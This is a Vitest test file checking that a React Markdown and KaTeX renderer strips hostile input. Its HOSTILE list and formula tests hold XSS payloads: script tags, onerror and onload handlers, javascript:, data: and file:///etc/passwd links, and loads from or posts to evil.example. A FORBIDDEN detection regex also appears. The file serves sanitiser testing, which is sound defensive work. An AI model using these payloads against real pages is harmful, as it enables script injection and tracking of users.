import katex from 'katex';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { startWords } from '../words/i18n.ts';
import { FORMULA_OPTIONS } from './formula.tsx';
import { Markdown } from './markdown.tsx';

const html = (source: string) => renderToStaticMarkup(<Markdown source={source} language="en" />);

/** Tags and attributes that no text may ever put into the window. */
const FORBIDDEN =
  /<(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio|source|img|template|noscript)\b|\son\w+=|\s(?:style|srcset|srcdoc|id|name|target|formaction|xlink:href)=|(?:href|src)="(?!https?:)/i;

const HOSTILE: readonly (readonly [name: string, markdown: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script after text', 'text <script src="https://evil.example/x.js"></script> text'],
  ['a broken script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  [
    'a handler on a table',
    '<table onclick="alert(1)"><tr><td onmouseover=alert(2)>cell</td></tr></table>',
  ],
  ['details that open', '<details open ontoggle=alert(1)><summary>s</summary>text</details>'],
  ['an svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    'MathML',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['an iframe with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ['a form', '<form action="https://evil.example"><input name=q><button>go</button></form>'],
  ['a style', '<style>body{background:url(https://evil.example)}</style>'],
  ['a style attribute', '<span style="position:fixed;inset:0">over everything</span>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a remote picture', '![pixel](https://evil.example/pixel.png)'],
  [
    'a remote picture as HTML',
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  ],
  ['a picture by reference', '![pixel][p]\n\n[p]: https://evil.example/pixel.png'],
  ['a picture with a script address', '![x](javascript:alert(1))'],
  ['a picture as data', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['a script link', '[x](javascript:alert(1))'],
  ['a script link in other letters', '[x](JaVaScRiPt:alert(1))'],
  ['a script link with an entity', '[x](javascript&#58;alert(1))'],
  ['a script link with a tab', '[x](java\tscript:alert(1))'],
  ['a script link in brackets', '<javascript:alert(1)>'],
  ['a script link by reference', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['a vbscript link', '[x](vbscript:msgbox(1))'],
  ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a file link', '[x](file:///etc/passwd)'],
  ['a link of the app', '[x](app://bundle/index.html)'],
  ['a mail link', '[x](mailto:someone@example.com)'],
  ['a relative link', '[x](./docs/README.md)'],
  ['a link without a scheme', '[x](//evil.example)'],
  ['a link to a place in the page', '[x](#root)'],
  ['a footnote', 'text[^1]\n\n[^1]: note'],
  ['a task list', '- [x] done\n- [ ] not'],
  ['a name that hides a property', '<a name="getElementById" id="body">x</a>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['a class that is not ours', '```evil-class onload=alert(1)\ncode\n```'],
  ['an unclosed tag', '<a href="https://example.com" onclick="alert(1)"'],
  ['HTML in a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ['HTML in a heading', '# <img src=x onerror=alert(1)>'],
  ['HTML in a link text', '[<img src=x onerror=alert(1)>](https://example.com)'],
  ['a title that breaks out', '[x](https://example.com "\\" onclick=alert(1) x=\\"")'],
];

/** What the browser would parse: text is escaped, so a literal `<` is only ever one of our own tags. */
const tagsOf = (markup: string) =>
  (markup.match(/<[^>]*>/g) ?? []).join('\n').replace(/<\/?svg[^>]*>/g, '');

beforeAll(() => startWords('en'));

describe('the allow-list', () => {
  it.each(HOSTILE)('makes %s harmless', (_name, markdown) => {
    expect(tagsOf(html(markdown))).not.toMatch(FORBIDDEN);
  });

  it.each([
    ['emphasis', '**bold** and *soft*', /<strong>bold<\/strong> and <em>soft<\/em>/],
    ['a list', '1. one\n   - two', /<ol>.*<ul>/s],
    ['a table', '| a | b |\n|---|---|\n| 1 | 2 |', /<table>.*<td>2<\/td>/s],
    [
      'a web link',
      '[x](https://arxiv.org/abs/2409.06210)',
      /<a href="https:\/\/arxiv.org\/abs\/2409.06210"/,
    ],
    ['a bare address', 'see https://example.com.', /<a href="https:\/\/example.com"/],
    ['code', '`<b>`', /<code>&lt;b&gt;<\/code>/],
    ['a formula', 'so $x^2$ holds', /<span class="formula" data-tex="x\^2">/],
    ['a formula of its own', '$$\nx^2\n$$', /formula-display" data-tex="x\^2"/],
    ['a formula of its own in one line', '$$x^2$$', /formula-display" data-tex="x\^2"/],
    [
      'the text of a picture',
      '![Figure 1](https://e.org/1.png)',
      /title="https:\/\/e.org\/1.png".*Figure 1/,
    ],
    [
      'the address of a picture without text',
      '![](https://e.org/1.png)',
      /<span>https:\/\/e.org\/1.png<\/span>/,
    ],
  ])('keeps %s', (_name, markdown, markup) => {
    expect(html(markdown)).toMatch(markup);
  });
});

describe('formulas of strangers', () => {
  it.each([
    ['a link', '\\href{javascript:alert(1)}{x}'],
    ['an address', '\\url{https://evil.example}'],
    ['a picture', '\\includegraphics{https://evil.example/p.png}'],
    ['a style', '\\htmlStyle{position:fixed}{x}'],
    ['a class', '\\htmlClass{evil}{x}'],
    ['data', '\\htmlData{a=b}{x}'],
    ['endless macros', '\\def\\a{\\a\\a}\\a'],
  ])('refuses %s in a formula', (_name, tex) => {
    const markup = katex.renderToString(tex, FORMULA_OPTIONS);
    expect(tagsOf(markup)).not.toMatch(/href=|src=|position|class="[^"]*evil|data-/);
  });

  it('keeps a rule within the column', () => {
    expect(katex.renderToString('\\rule{9999em}{9999em}', FORMULA_OPTIONS)).not.toMatch(/9999em;/);
  });
});
